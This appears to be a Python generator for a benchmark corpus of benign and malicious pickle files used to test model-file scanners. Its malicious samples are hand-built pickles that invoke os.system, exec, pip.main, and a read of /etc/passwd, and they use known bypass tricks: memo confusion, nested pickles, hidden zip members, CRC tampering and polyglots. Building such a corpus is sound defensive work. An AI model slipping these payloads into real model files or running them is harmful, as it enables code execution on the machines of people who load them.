"""Generate the benign/malicious pickle corpus used by ``bench/pickle_vs_peers.py`` (nothing here is ever loaded).

Each file name starts with ``benign-`` or ``mal-``; malicious files include the known scanner bypasses listed in
``shared/reference/supplychain.md`` §1.2-1.4 (INST, memo confusion, submodule globals, ``pkgutil.resolve_name``,
``pip.main``, nested pickles, non-standard member names in zips, CRC tampering, polyglots, payload after a
benign pickle, ``EXT`` codes, ``BUILD`` on a global).
"""

from __future__ import annotations

import pickle
import struct
import sys
import zipfile
from collections import OrderedDict
from pathlib import Path


def s(x: str) -> bytes:
    b = x.encode()
    return b"\x8c" + bytes([len(b)]) + b


def g(m: str, n: str) -> bytes:
    return b"c" + m.encode() + b"\n" + n.encode() + b"\n"


def call(module: str, name: str, arg: str = "id", proto: int = 4, memo: bool = False) -> bytes:
    if memo:
        body = s(module) + b"\x94" + s(name) + b"\x94" + b"0" + b"h\x00h\x01\x93"
    else:
        body = s(module) + s(name) + b"\x93"
    return b"\x80" + bytes([proto]) + body + s(arg) + b"\x85R."


def torch_pkl(n_tensors: int = 3) -> bytes:
    out = b"\x80\x02" + g("collections", "OrderedDict") + b")R"
    for i in range(n_tensors):
        out += s(f"layer{i}.weight") + g("torch._utils", "_rebuild_tensor_v2")
        out += b"((" + s("storage") + g("torch", "FloatStorage") + s(str(i)) + s("cpu") + b"K\x04tQ"
        out += b"K\x00K\x02K\x02\x86K\x02K\x01\x86\x89" + g("collections", "OrderedDict") + b")RtR" + b"s"
    return out + b"."


def torch_zip(
    path: Path, pkl: bytes, extra: dict[str, bytes] | None = None, name: str = "archive/data.pkl"
) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as z:
        z.writestr(name, pkl)
        for i in range(3):
            z.writestr(f"archive/data/{i}", struct.pack("<4f", 1, 2, 3, 4))
        z.writestr("archive/version", "3\n")
        for k, v in (extra or {}).items():
            z.writestr(k, v)


def numpy_like() -> bytes:
    """What pickle.dumps(np.arange(3)) looks like (protocol 2), hand-assembled."""
    return (
        b"\x80\x02" + g("numpy.core.multiarray", "_reconstruct") + g("numpy", "ndarray") + b"K\x00\x85"
        + g("_codecs", "encode") + s("b") + s("latin1") + b"\x86R\x87R(K\x01K\x03\x85" + g("numpy", "dtype")
        + s("i8") + b"\x89\x88\x87R(K\x03" + s("<") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb\x89"
        + g("_codecs", "encode") + s("\x00" * 24) + s("latin1") + b"\x86Rtb."
    )  # fmt: skip


def build(out: Path) -> list[Path]:
    out.mkdir(parents=True, exist_ok=True)
    files: dict[str, bytes] = {}
    data = {
        "lr": 0.001,
        "steps": [1, 2, 3],
        "name": "run",
        "o": OrderedDict(a=1),
        "t": (1, None),
        "s": {1, 2},
    }
    for proto in range(6):
        files[f"benign-data-p{proto}.pkl"] = pickle.dumps(data, protocol=proto)
    files["benign-torch-data.pkl"] = torch_pkl(50)
    files["benign-numpy-array.pkl"] = numpy_like()
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
    files["benign-legacy-torch.bin"] = (
        magic + pickle.dumps(1001, protocol=2) + pickle.dumps({"little_endian": True}, protocol=2) + torch_pkl(3)
        + pickle.dumps(["0", "1", "2"], protocol=2) + struct.pack("<Q", 4) + b"\x01" * 16
    )  # fmt: skip
    for proto in (0, 2, 4, 5):
        files[f"mal-os-system-p{proto}.pkl"] = pickle.dumps(_Reduce("os", "system"), protocol=proto)
    files["mal-inst-opcode.pkl"] = b"(S'id'\nios\nsystem\n."
    files["mal-obj-builtin-eval.pkl"] = b"(c__builtin__\neval\nS'1+1'\no."
    files["mal-memo-stack-global.pkl"] = call("os", "system", memo=True)
    files["mal-subprocess-popen.pkl"] = call("subprocess", "Popen")
    files["mal-builtins-exec.pkl"] = call("builtins", "exec", "print(1)")
    files["mal-getattr-chain.pkl"] = call("builtins", "getattr")
    files["mal-pkgutil-resolve-name.pkl"] = call("pkgutil", "resolve_name", "os:system")
    files["mal-asyncio-submodule.pkl"] = call("asyncio.unix_events", "_UnixSubprocessTransport")
    files["mal-pip-main.pkl"] = call("pip", "main", "install")
    files["mal-importlib.pkl"] = call("importlib", "import_module", "os")
    files["mal-marshal-loads.pkl"] = call("marshal", "loads")
    files["mal-runpy.pkl"] = call("runpy", "run_path", "/tmp/x.py")
    files["mal-webbrowser.pkl"] = call("webbrowser", "open", "http://example.invalid")
    files["mal-torch-load-dotted.pkl"] = call("torch", "serialization.load", "/tmp/x.pt")
    files["mal-collect-env-run.pkl"] = call("torch.utils.collect_env", "run", "id")
    files["mal-uuid-command.pkl"] = call("uuid", "_get_command_stdout", "id")
    files["mal-mailcap-findmatch.pkl"] = call("mailcap", "findmatch")
    files["mal-io-fileio.pkl"] = call("_io", "FileIO", "/etc/passwd")
    files["mal-unknown-module.pkl"] = call("totally_custom_pkg.helpers", "run")
    files["mal-ext-opcode.pkl"] = b"\x80\x02\x82\x01" + s("id") + b"\x85R."
    files["mal-build-on-global.pkl"] = (
        b"\x80\x04" + s("collections") + s("OrderedDict") + b"\x93}" + s("x") + b"K\x01sb."
    )
    inner = call("os", "system")
    files["mal-nested-pickle-bytes.pkl"] = (
        b"\x80\x04" + s("pickle") + s("loads") + b"\x93C" + bytes([len(inner)]) + inner + b"\x85R."
    )
    files["mal-after-benign.pkl"] = pickle.dumps([1, 2]) + call("os", "system")
    files["mal-garbage-tail.pkl"] = call("os", "system")[:-1] + b"\xff\xfe"
    files["mal-nonstandard-ext.dat2"] = call("os", "system")
    for name, blob in files.items():
        (out / name).write_bytes(blob)
    torch_zip(out / "benign-torch-zip.pt", torch_pkl(50))
    torch_zip(out / "mal-torch-zip.pt", call("os", "system"))
    torch_zip(
        out / "mal-zip-hidden-member.pt", torch_pkl(3), extra={"archive/extra.state": call("os", "system")}
    )
    torch_zip(out / "mal-zip-renamed-datapkl.pt", call("os", "system"), name="archive/data.pickle5")
    torch_zip(out / "mal-zip-crc.pt", call("os", "system"))
    raw = bytearray((out / "mal-zip-crc.pt").read_bytes())
    i = raw.index(b"system")
    raw[i + 5] = ord("m")  # CRC no longer matches; torch's reader ignores CRCs ("systemm" still imports os)
    (out / "mal-zip-crc.pt").write_bytes(bytes(raw))
    tmpz = out / "_tmp.zip"
    torch_zip(tmpz, torch_pkl(3))
    (out / "mal-polyglot-pickle-zip.pt").write_bytes(call("os", "system") + tmpz.read_bytes())
    tmpz.unlink()
    return sorted(p for p in out.iterdir() if p.is_file())


class _Reduce:
    """Pickles as a call of ``os.system("id")`` (recorded by the running OS as ``posix.system``/``nt.system``)."""

    def __init__(self, module: str, name: str) -> None:
        self.fn = getattr(__import__(module), name)

    def __reduce__(self) -> tuple[object, ...]:
        return (self.fn, ("id",))


if __name__ == "__main__":
    target = Path(sys.argv[1] if len(sys.argv) > 1 else "bench/.work/pickle_corpus")
    for p in build(target):
        print(p)
